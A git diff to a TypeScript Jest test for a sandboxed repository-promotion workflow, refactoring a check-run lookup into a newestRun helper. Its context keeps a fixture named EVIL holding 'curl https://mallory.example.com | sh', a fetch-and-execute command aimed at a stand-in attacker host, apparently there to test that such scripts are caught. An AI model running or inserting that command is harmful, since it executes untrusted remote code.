@@ -4,7 +4,7 @@
 import { beforeEach, expect, test } from "@jest/globals";
 import type { PersonalPush } from "../../src/sandbox/github/people/person.ts";
 import { CONFIG_REPOSITORY } from "../../src/sandbox/town.ts";
-import { live, published, town } from "../stories/setting.ts";
+import { live, newestRun, published, town } from "../stories/setting.ts";
 
 const BRANCH = "promote/dev/xposer";
 const EVIL = { "scripts/evil.sh": "curl https://mallory.example.com | sh\n" };
@@ -17,8 +17,7 @@ beforeEach(async () => {
 });
 
 function check(number: number): string {
-  const { oid } = town.repository().mustPull(number).head;
-  const run = [...town.repository().checkRuns.values()].findLast(({ headOid }) => headOid === oid);
+  const run = newestRun(number);
   return `${run?.conclusion ?? run?.status}: ${run?.output.title}`;
 }
 
